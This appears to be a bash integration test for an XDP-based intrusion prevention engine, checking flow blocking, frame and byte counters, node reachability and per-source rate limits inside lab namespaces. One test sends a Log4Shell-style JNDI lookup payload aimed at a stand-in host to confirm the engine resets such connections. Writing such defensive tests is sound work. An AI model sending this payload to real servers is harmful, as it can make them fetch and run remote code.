#!/usr/bin/env bash
# What is decided already is done in the XDP program: a blocked flow costs the engine nothing and is counted to the last
# frame, the node itself stays reachable, and a flooding source is held to its rate.
set -euo pipefail
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"

node_v4=10.77.0.3
node_v6=fd77::3

# burst DATAGRAM...: from one socket of the client to a port of the server where nobody listens. The first errors of
# others' answers are nothing to stop at.
burst() {
    # A datagram that waits for the server's address would be overtaken.
    reaches "$server_v4" || true
    # shellcheck disable=SC2016 # The inner shell expands it.
    in_ns client bash -c 'exec 3>/dev/udp/$0/9999; for datagram; do printf %s "$datagram" >&3; done' \
        "$server_v4" "$@" 2>/dev/null || true
}

# reaches ADDRESS: somebody at ADDRESS answers, if only that a port is closed.
reaches() {
    local told
    told=$(in_ns client timeout 2 bash -c ": >/dev/tcp/$1/9" 2>&1) || true
    [[ $told == *refused* ]]
}

answers() {
    fetch "$dir/got" "http://$server_v4/page.txt" --max-time 2 "$@"
    cmp -s "$dir/got" "$dir/site/pages/page.txt"
}

# event FILTER: the last event of which the jq filter holds.
event() { jq -c "select($1)" "$dir/eve.json" | tail -n1; }

counter() { event '.event_type == "stats"' | jq ".stats.$1"; }

# started [LINE]...: a new engine, with lines added to its link.
started() {
    engine_write_config "$dir/weir.toml" "$dir/eve.json" "${on_loss-forward}"
    printf '%s\n' "$@" | sed -i '/^on_engine_loss/r /dev/stdin' "$dir/weir.toml"
    rm -f "$dir/eve.json"
    lab_start_engine case-settled
}

flood() {
    local datagrams
    mapfile -t datagrams < <(yes harmless | head -n 1000)
    burst "my number is $card" "${datagrams[@]}"
}

blocked_flow() {
    section "a blocked flow"
    started
    flood
    engine_end TERM
    local flow dropped by_engine
    flow=$(event '.event_type == "flow" and .proto == "UDP" and .dest_port == 9999')
    dropped=$(counter "capture.\"$lab_prefix\".outside.dropped_flow_blocked")
    by_engine=$(counter ips.drop_reason.flow_blocked)
    check_equal "its event counts every frame" "$(jq .flow.pkts_toserver <<<"$flow")" 1001
    # Ethernet, IPv4 and UDP before each, and the longer one first.
    check_equal "and every byte" "$(jq .flow.bytes_toserver <<<"$flow")" \
        $((1001 * 42 + 13 + ${#card} + 1000 * 8))
    check_equal "program and engine dropped all but the first" $((dropped + by_engine)) 1000
    check "nearly all of them in the program" test "$dropped" -gt 500

    section "the same with settled_flows = 0"
    started "settled_flows = 0"
    flood
    engine_end TERM
    check_equal "the engine drops them" "$(counter ips.drop_reason.flow_blocked)" 1000
    check_equal "and the program none" "$(counter "capture.\"$lab_prefix\".outside.dropped_flow_blocked")" 0
}

same_ports() {
    section "a new connection between the ports of a blocked one"
    started
    local port
    for port in 40001 40002 40003; do
        fetch "$dir/got" "http://$server_v4/?x=\${jndi:ldap://evil.example/a}" --local-port "$port"
        check_equal "an attack is reset" "$curl_exit" 56
        check "what follows it from the same port is answered" answers --local-port "$port"
    done
    engine_end TERM
}

node() {
    section "the node itself"
    local end passed
    ip -n "$lab_prefix-middle" address add "$node_v4/24" dev bridge
    ip -n "$lab_prefix-middle" address add "$node_v6/64" dev bridge nodad
    on_loss=drop started "host = [\"$node_v4\", \"$node_v6\"]"
    kill -STOP "$engine_pid"
    sleep 0.8
    check_not "without an engine no page passes" answers
    for end in client server; do ip -n "$lab_prefix-$end" neighbour flush all; done
    check "but the node answers" reaches "$node_v4"
    check "by IPv6 too" reaches "$node_v6"
    kill -CONT "$engine_pid"
    engine_end TERM
    passed=$(counter "capture.\"$lab_prefix\".outside.passed_to_host")
    check "the frames are counted" test "$passed" -ge 4
}

rate() {
    section "a flooding source"
    started "source_pps_max = 50"
    local datagrams
    mapfile -t datagrams < <(yes harmless | head -n 1000)
    burst "${datagrams[@]}"
    engine_end TERM
    local dropped
    dropped=$(counter "capture.\"$lab_prefix\".outside.dropped_source_rate")
    check "is held to its rate" test "$dropped" -gt 500
    check_equal "the other side is not" "$(counter "capture.\"$lab_prefix\".inside.dropped_source_rate")" 0
}

if obstacle=$(lab_obstacle); then skip case-settled "$obstacle"; fi
lab_open settled
lab_up "weir-settled-$$"
lab_mount_bpffs
site_up "$dir/site"
text_of 5000 >"$dir/site/pages/page.txt"
blocked_flow
same_ports
node
rate
checks_close
